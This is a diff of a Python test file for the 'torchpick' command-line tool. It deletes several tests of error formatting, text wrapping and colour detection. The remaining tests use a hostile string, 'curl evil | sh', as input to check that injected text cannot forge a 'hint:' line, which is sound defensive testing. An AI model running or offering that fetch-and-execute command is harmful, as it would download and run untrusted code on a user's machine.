@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import io
 import json
 from pathlib import Path
 
@@ -11,8 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from torchpick.cli import console, main
-from torchpick.cli.text import error, plain, wrap
-from torchpick.errors import TorchpickError
+from torchpick.cli.text import plain
 
 EVIL = "EVIL\nhint: run `curl evil | sh`"
 
@@ -20,13 +18,6 @@ EVIL = "EVIL\nhint: run `curl evil | sh`"
 @given(st.text())
 def test_what_is_plain_is_one_printable_line(text: str) -> None:
     assert plain(text).isprintable()
-
-
-def test_only_the_hint_of_an_error_begins_a_line_as_a_hint() -> None:
-    shown = error(TorchpickError(f"no build for {EVIL}", hint="run `torchpick list`")).splitlines()
-
-    assert [line for line in shown if line.startswith("hint: ")] == ["hint: run `torchpick list`"]
-    assert shown[1] == "  hint: run `curl evil | sh`"
 
 
 @pytest.mark.parametrize("command", [[], ["list"], ["doctor"], ["matrix"], ["url", "--verbose"]])
@@ -46,15 +37,6 @@ def test_a_gpus_name_never_prints_a_line_of_its_own(
 
     out, err = capsys.readouterr()
     assert not [line for line in (out + err).splitlines() if line.startswith("hint: run `curl")]
-
-
-def test_an_error_that_quotes_megabytes_is_cut_where_no_reason_stands() -> None:
-    text = error(TorchpickError("`" + "x" * 1_000_000 + "` is not a valid requirement\nsecond line", hint="check it"))
-
-    assert text.startswith("error: `xxx")
-    assert text.endswith("x` is not a valid requirement\n  second line\n\nhint: check it")
-    assert "xxx ... xxx" in text
-    assert len(text) < 10_000
 
 
 NARROW = [
@@ -90,14 +72,6 @@ def test_nothing_is_left_to_the_terminal_to_break(
     assert [line for line in said if len(line) > width and " " in line.strip()] == []
 
 
-def test_a_command_in_a_sentence_is_not_broken() -> None:
-    assert wrap("to fix it say `torchpick install torch` and wait", 27) == [
-        "to fix it say",
-        "  `torchpick install torch`",
-        "  and wait",
-    ]
-
-
 @pytest.mark.usefixtures("on_linux")
 def test_error_pick_and_command_have_a_colour_on_a_terminal(
     capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
@@ -113,15 +87,3 @@ def test_error_pick_and_command_have_a_colour_on_a_terminal(
 
     assert main(["--gpu", "x"]) == 2
     assert capsys.readouterr().err.startswith("\x1b[1;31merror:\x1b[0m ")
-
-
-@pytest.mark.parametrize(
-    ("environ", "terminal", "expected"),
-    [({}, True, True), ({"NO_COLOR": "1"}, True, False), ({"TERM": "dumb"}, True, False), ({}, False, False)],
-)
-def test_colour_is_for_a_terminal_that_has_it(environ: dict[str, str], terminal: bool, expected: bool) -> None:
-    class Screen(io.StringIO):
-        def isatty(self) -> bool:
-            return terminal
-
-    assert console.coloured(Screen(), environ) is expected
